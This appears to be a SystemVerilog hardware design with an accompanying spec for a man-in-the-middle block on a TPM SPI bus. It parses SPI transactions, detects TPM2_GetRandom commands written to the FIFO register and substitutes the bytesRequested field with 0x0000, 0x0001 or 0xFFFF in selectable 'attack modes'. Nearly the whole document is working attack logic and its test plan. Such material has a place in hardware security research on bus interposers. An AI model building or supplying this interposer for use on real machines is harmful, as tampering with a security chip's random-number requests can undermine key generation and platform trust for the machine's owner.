// File: rtl/tpm_mitm_pkg.sv
// rtl/tpm_mitm_pkg.sv - shared constants, state type and address match for the GetRandom MITM
// Optional feature macro: TPM_CMD_MITM_FULL_ADDR_EN (match the full 24-bit locality-0 address).
package tpm_mitm_pkg;

  localparam logic [3:0] MODE_FORWARD    = 4'b0001;
  localparam logic [3:0] MODE_FORCE_ZERO = 4'b0010;
  localparam logic [3:0] MODE_FORCE_ONE  = 4'b0100;
  localparam logic [3:0] MODE_FORCE_MAX  = 4'b1000;

  localparam logic [15:0] TPM_ST_NO_SESSIONS = 16'h8001;
  localparam logic [31:0] TPM_CC_GET_RANDOM  = 32'h0000017B;

  localparam logic [7:0]  FIFO_OFFSET = 8'h24;
  localparam logic [7:0]  STS_OFFSET  = 8'h18;
  localparam logic [23:0] FIFO_ADDR   = {16'hD400, FIFO_OFFSET};
  localparam logic [23:0] STS_ADDR    = {16'hD400, STS_OFFSET};
  localparam int          STS_COMMAND_READY_BIT = 6;

  typedef enum logic [2:0] {
    ST_HDR,
    ST_WAIT,
    ST_FORK,
    ST_DATA,
    ST_IGNORE,
    ST_FAKE_START,
    ST_FAKE_WAIT
  } state_t;

  // Register match: either the exact locality-0 address or just the offset
  // within whatever locality the host addressed.
  function automatic logic addr_match(input logic [23:0] addr, input logic [23:0] target);
`ifdef TPM_CMD_MITM_FULL_ADDR_EN
    return addr == target;
`else
    return addr[7:0] == target[7:0];
`endif
  endfunction

endpackage

// File: rtl/tpm_spi_header_parser.sv
// rtl/tpm_spi_header_parser.sv - collects the 4-byte TPM SPI header and its wait states
// Ports: clk/rst_n; enable (top is in HDR/WAIT); mosi_valid/mosi_data/miso_data byte pair;
//        hdr_valid (pulse, header done and no more wait), wait_enter (pulse, TPM inserted
//        wait), is_read, rw_size (1..64), addr (24-bit).
module tpm_spi_header_parser
  import tpm_mitm_pkg::*;
(
  input  logic        clk,
  input  logic        rst_n,
  input  logic        enable,
  input  logic        mosi_valid,
  input  logic [7:0]  mosi_data,
  input  logic [7:0]  miso_data,
  output logic        hdr_valid,
  output logic        wait_enter,
  output logic        is_read,
  output logic [6:0]  rw_size,
  output logic [23:0] addr
);

  logic [1:0] idx;
  logic       waiting;
  logic       take;
  logic       unused_bits;

  assign take        = enable && mosi_valid;
  // Combinational so the top leaves HDR/WAIT on the very edge that consumes
  // the last header pair; the first data byte is never mistaken for a header.
  assign hdr_valid   = take && miso_data[0] && (waiting || idx == 2'd3);
  assign wait_enter  = take && !waiting && idx == 2'd3 && !miso_data[0];
  assign unused_bits = ^{mosi_data[6], miso_data[7:1]};

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      idx     <= 2'd0;
      waiting <= 1'b0;
      is_read <= 1'b0;
      rw_size <= 7'd0;
      addr    <= 24'd0;
    end else if (take) begin
      if (waiting) begin
        if (miso_data[0]) waiting <= 1'b0;
      end else begin
        case (idx)
          2'd0: begin
            is_read <= mosi_data[7];
            rw_size <= {1'b0, mosi_data[5:0]} + 7'd1;
          end
          2'd1: addr[23:16] <= mosi_data;
          2'd2: addr[15:8]  <= mosi_data;
          default: begin
            addr[7:0] <= mosi_data;
            waiting   <= !miso_data[0];
          end
        endcase
        idx <= idx + 2'd1;
      end
    end
  end

endmodule

// File: rtl/tpm_get_random_cmd_mitm.sv
// rtl/tpm_get_random_cmd_mitm.sv - rewrites TPM2_GetRandom bytesRequested on the TPM-facing bus
// Ports: sys_clk/rst_n (async, active-low); mode_select one-hot attack mode;
//        if0/if1_recv_new_data + real_if0/if1_recv_data received host/TPM bytes;
//        fake_if1_send_ready/done from the TPM-facing sender; fake_if1_select/send_start/
//        send_data drive the substitution; fake_if0_* and keep_alive tied low;
//        mitm_hit pulses once both bytesRequested bytes were replaced.
// Optional feature macro: TPM_CMD_MITM_FULL_ADDR_EN (see tpm_mitm_pkg::addr_match).
module tpm_get_random_cmd_mitm
  import tpm_mitm_pkg::*;
#(
  parameter int NUM_DATA_BITS  = 8,
  parameter int NUM_MITM_MODES = 4
) (
  input  logic                      sys_clk,
  input  logic                      rst_n,
  input  logic [NUM_MITM_MODES-1:0] mode_select,
  input  logic                      if0_recv_new_data,
  input  logic                      if1_recv_new_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if0_recv_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if1_recv_data,
  input  logic                      fake_if1_send_ready,
  input  logic                      fake_if1_send_done,
  output logic                      fake_if0_select,
  output logic                      fake_if1_select,
  output logic                      fake_if0_send_start,
  output logic                      fake_if1_send_start,
  output logic                      fake_if0_keep_alive,
  output logic                      fake_if1_keep_alive,
  output logic [NUM_DATA_BITS-1:0]  fake_if0_send_data,
  output logic [NUM_DATA_BITS-1:0]  fake_if1_send_data,
  output logic                      mitm_hit
);

  state_t      state;
  logic [15:0] cmd_ctr;
  logic [15:0] tag;
  logic [31:0] cmd_size;
  logic [31:0] cmd_code;
  logic [6:0]  rw_size;
  logic [3:0]  mode;
  logic        disarmed;
  logic        sts_pending;

  logic        hdr_valid;
  logic        wait_enter;
  logic        hdr_is_read;
  logic [6:0]  hdr_rw_size;
  logic [23:0] hdr_addr;

  logic [15:0] ctr_inc;
  logic [15:0] ctr_next;
  logic        at_param;
  logic        armed;
  logic [7:0]  fake_byte;
  logic        unused_in;

  assign fake_if0_select     = 1'b0;
  assign fake_if0_send_start = 1'b0;
  assign fake_if0_keep_alive = 1'b0;
  assign fake_if1_keep_alive = 1'b0;
  assign fake_if0_send_data  = '0;
  assign unused_in           = if1_recv_new_data;

  tpm_spi_header_parser u_hdr (
    .clk        (sys_clk),
    .rst_n      (rst_n),
    .enable     (state == ST_HDR || state == ST_WAIT),
    .mosi_valid (if0_recv_new_data),
    .mosi_data  (real_if0_recv_data),
    .miso_data  (real_if1_recv_data),
    .hdr_valid  (hdr_valid),
    .wait_enter (wait_enter),
    .is_read    (hdr_is_read),
    .rw_size    (hdr_rw_size),
    .addr       (hdr_addr)
  );

  // commandSize is only fully captured from byte 6 on, so the end check waits for that.
  assign ctr_inc  = cmd_ctr + 16'd1;
  assign ctr_next = (cmd_ctr >= 16'd6 && {16'd0, ctr_inc} == cmd_size) ? 16'd0 : ctr_inc;
  assign at_param = (cmd_ctr == 16'd10) || (cmd_ctr == 16'd11);
  assign armed    = (tag == TPM_ST_NO_SESSIONS) && (cmd_code == TPM_CC_GET_RANDOM) &&
                    (mode != MODE_FORWARD) && !disarmed;

  // bytesRequested is big-endian: byte 10 is the high byte, byte 11 the low byte.
  always_comb begin
    fake_byte = 8'h00;
    if (mode == MODE_FORCE_MAX) fake_byte = 8'hFF;
    else if (mode == MODE_FORCE_ONE && cmd_ctr == 16'd11) fake_byte = 8'h01;
  end

  always_ff @(posedge sys_clk or negedge rst_n) begin
    if (!rst_n) begin
      state               <= ST_HDR;
      cmd_ctr             <= 16'd0;
      tag                 <= 16'd0;
      cmd_size            <= 32'd0;
      cmd_code            <= 32'd0;
      rw_size             <= 7'd0;
      mode                <= MODE_FORWARD;
      disarmed            <= 1'b0;
      sts_pending         <= 1'b0;
      fake_if1_select     <= 1'b0;
      fake_if1_send_start <= 1'b0;
      fake_if1_send_data  <= '0;
      mitm_hit            <= 1'b0;
    end else begin
      mitm_hit <= 1'b0;
      case (state)
        ST_HDR, ST_WAIT: begin
          // Mode only changes between commands, never inside one.
          if (state == ST_HDR && cmd_ctr == 16'd0)
            mode <= $onehot(mode_select) ? mode_select : MODE_FORWARD;
          if (hdr_valid)       state <= ST_FORK;
          else if (wait_enter) state <= ST_WAIT;
        end

        ST_FORK: begin
          rw_size <= hdr_rw_size;
          if (!hdr_is_read && addr_match(hdr_addr, FIFO_ADDR)) begin
            state <= ST_DATA;
          end else begin
            sts_pending <= !hdr_is_read && addr_match(hdr_addr, STS_ADDR);
            state       <= ST_IGNORE;
          end
        end

        ST_DATA: begin
          if (if0_recv_new_data) begin
            cmd_ctr <= ctr_next;
            rw_size <= rw_size - 7'd1;
            if (cmd_ctr <= 16'd1)      tag      <= {tag[7:0], real_if0_recv_data};
            else if (cmd_ctr <= 16'd5) cmd_size <= {cmd_size[23:0], real_if0_recv_data};
            else if (cmd_ctr <= 16'd9) cmd_code <= {cmd_code[23:0], real_if0_recv_data};
            // The sender was not ready in time: this byte went out unmodified,
            // so a half-rewritten bytesRequested must not follow.
            if (armed && at_param) disarmed <= 1'b1;
            if (ctr_next == 16'd0) disarmed <= 1'b0;
            if (rw_size <= 7'd1) begin
              fake_if1_select <= 1'b0;
              state           <= ST_HDR;
            end
          end else if (rw_size == 7'd0) begin
            fake_if1_select <= 1'b0;
            state           <= ST_HDR;
          end else if (armed && at_param && fake_if1_send_ready) begin
            fake_if1_send_data  <= fake_byte;
            fake_if1_select     <= 1'b1;
            fake_if1_send_start <= 1'b1;
            state               <= ST_FAKE_START;
          end
        end

        ST_FAKE_START: begin
          fake_if1_send_start <= 1'b0;
          state               <= ST_FAKE_WAIT;
        end

        ST_FAKE_WAIT: begin
          if (fake_if1_send_done) begin
            cmd_ctr <= ctr_next;
            rw_size <= rw_size - 7'd1;
            if (cmd_ctr == 16'd11) mitm_hit <= 1'b1;
            if (ctr_next == 16'd0) disarmed <= 1'b0;
            state <= ST_DATA;
          end
        end

        ST_IGNORE: begin
          if (if0_recv_new_data) begin
            rw_size     <= rw_size - 7'd1;
            sts_pending <= 1'b0;
            // commandReady aborts any partially written command.
            if (sts_pending && real_if0_recv_data[STS_COMMAND_READY_BIT]) begin
              cmd_ctr  <= 16'd0;
              disarmed <= 1'b0;
            end
            if (rw_size <= 7'd1) state <= ST_HDR;
          end
        end

        default: state <= ST_HDR;
      endcase
    end
  end

endmodule

// File: doc/tpm_get_random_cmd_mitm.md
# tpm_get_random_cmd_mitm

MITM logic block that intercepts the host→TPM direction of a TPM SPI GetRandom exchange. It tracks TPM SPI transactions, follows TPM_CC_GetRandom command bytes written to the FIFO register, and rewrites the 2-byte `bytesRequested` field on the TPM-facing fake interface. It sits behind the bus interceptor as a drop-in MitmLogic alternative and uses the same bus-control/status ports.

## Interface
- `NUM_DATA_BITS`, 8, byte width of bus data.
- `NUM_MITM_MODES`, 4, width of the one-hot mode select.
- `sys_clk`  in  1  system clock; all logic is on the rising edge.
- `rst_n`  in  1  asynchronous, active-low reset.
- `mode_select`  in  4  one-hot: 0001 FORWARD, 0010 FORCE_ZERO, 0100 FORCE_ONE, 1000 FORCE_MAX.
- `if0_recv_new_data` / `if1_recv_new_data`  in  1  one-cycle strobe: a byte was received from host (MOSI) or TPM (MISO).
- `real_if0_recv_data` / `real_if1_recv_data`  in  8  the received byte, valid with its strobe.
- `fake_if1_send_ready` / `fake_if1_send_done`  in  1  fake TPM-facing sender is idle / has finished the byte (one-cycle pulse).
- `fake_if1_select`  out  1  route the fake byte to the TPM in place of the host byte.
- `fake_if1_send_start`  out  1  one-cycle start pulse.
- `fake_if1_send_data`  out  8  substituted byte.
- `fake_if0_select`, `fake_if0_send_start`, `fake_if0_keep_alive`, `fake_if1_keep_alive`, `fake_if0_send_data`  out  tied to 0.
- `mitm_hit`  out  1  one-cycle pulse when both bytes of `bytesRequested` have been substituted.

## Operation
- **Header parsing.** Each transaction starts with 4 header byte pairs.
  - Byte 0: bit7 = read (1) or write (0); bits[5:0] = size−1. `rw_size` = bits[5:0]+1, 7 bits wide, range 1..64.
  - Bytes 1–3: 24-bit address.
  - The MISO byte paired with header byte 3 carries the wait flag in bit0. bit0 = 0 means wait.
- **States.**
  - HDR: collect the 4 header byte pairs.
  - WAIT: consume one byte pair at a time until MISO bit0 = 1.
  - FORK: one cycle.
    - Write to FIFO (addr[7:0] = 0x24) → DATA.
    - Write to TPM_STS (0x18) with data bit6 set → cmd_ctr cleared, then IGNORE.
    - Anything else → IGNORE.
  - DATA: each IF0 strobe increments the 16-bit `cmd_ctr` and decrements `rw_size`.
    - Host write bytes are captured: bytes 0–1 tag, 2–5 commandSize, 6–9 commandCode.
  - IGNORE: decrement `rw_size` on each IF0 strobe. Return to HDR at 0.
  - FAKE_START and FAKE_WAIT: see the attack sequence below.
- **Arming.** The command is armed when tag = 0x8001, commandCode = 0x0000017B and mode ≠ FORWARD.
- **Attack sequence.** In DATA with `cmd_ctr` = 10 or 11, armed, and `fake_if1_send_ready` = 1:
  - Load the byte: FORCE_ZERO 0x00/0x00, FORCE_ONE 0x00/0x01, FORCE_MAX 0xFF/0xFF.
  - Assert select and a start pulse, then go to FAKE_START (1 cycle, start dropped) and FAKE_WAIT.
  - On `send_done`: `cmd_ctr`+1, `rw_size`−1, back to DATA.
- **Command end.** When `cmd_ctr` reaches commandSize (valid once `cmd_ctr` ≥ 6), `cmd_ctr` → 0. Commands may span several transactions. `cmd_ctr` persists across HDR.
- **Transaction end.** When `rw_size` reaches 0 in DATA: `fake_if1_select` → 0, state → HDR.
- **Mode latch.** `mode_select` is latched only in HDR with `cmd_ctr` = 0. A non-one-hot value latches as FORWARD.

## Timing
- Reset (async): all outputs 0, state HDR, all counters 0, mode FORWARD.
- `fake_if1_send_start` is exactly one cycle wide. `fake_if1_select` stays high from the start of substituting byte 10 until the transaction ends.
- **Missed substitution.** If the IF0 strobe for byte 10/11 arrives while `send_ready` = 0:
  - Forward the byte unmodified and count it normally.
  - Disarm the rest of the command.
  - No `mitm_hit`.
- `mitm_hit` pulses the cycle after byte 11's `send_done`.
- A strobe and a state transition in the same cycle: the strobe is counted in the state being left.
- Reset mid-substitution: select/start drop asynchronously. The next command is parsed from `cmd_ctr` = 0.

## Configuration
- `TPM_CMD_MITM_FULL_ADDR_EN`
  - Defined: FIFO/STS matches require the full 24-bit address, 0xD40024 / 0xD40018 (locality 0).
  - Undefined: only addr[7:0] is compared, so any locality matches.

## Structure
- Package `tpm_mitm_pkg`:
  - mode one-hot constants;
  - TPM_ST_NO_SESSIONS (0x8001) and TPM_CC_GET_RANDOM (0x0000017B);
  - FIFO/STS offsets, full addresses, STS_COMMAND_READY bit index;
  - state enum.
- Sub-module `tpm_spi_header_parser`:
  - HDR/WAIT byte-pair collection;
  - outputs `hdr_valid` pulse, `is_read`, `rw_size`, `addr`.

## Test plan
- FORCE_ZERO, single 12-byte FIFO write of GetRandom(0x0020) → TPM sees 0x0000 at bytes 10–11, `mitm_hit` = 1 once, `fake_if1_select` back to 0 at end.
- FORCE_MAX, command split into 4-byte + 8-byte transactions, 2 wait states on the second header → bytes 10–11 = 0xFFFF, `cmd_ctr` = 0 afterwards.
- FORWARD, or commandCode 0x00000144 under FORCE_ONE → no `send_start` pulses, `mitm_hit` never asserts.
- FORCE_ONE with `fake_if1_send_ready` held low through byte 10 → both bytes forwarded, no `mitm_hit`, next GetRandom substituted to 0x0001.
- STS write 0x40 after 6 FIFO bytes, then a fresh GetRandom under FORCE_ZERO → substitution lands at bytes 10–11 of the new command.
- `rst_n` low during FAKE_WAIT → outputs 0 immediately; mode change to FORCE_MAX applied to the next command.
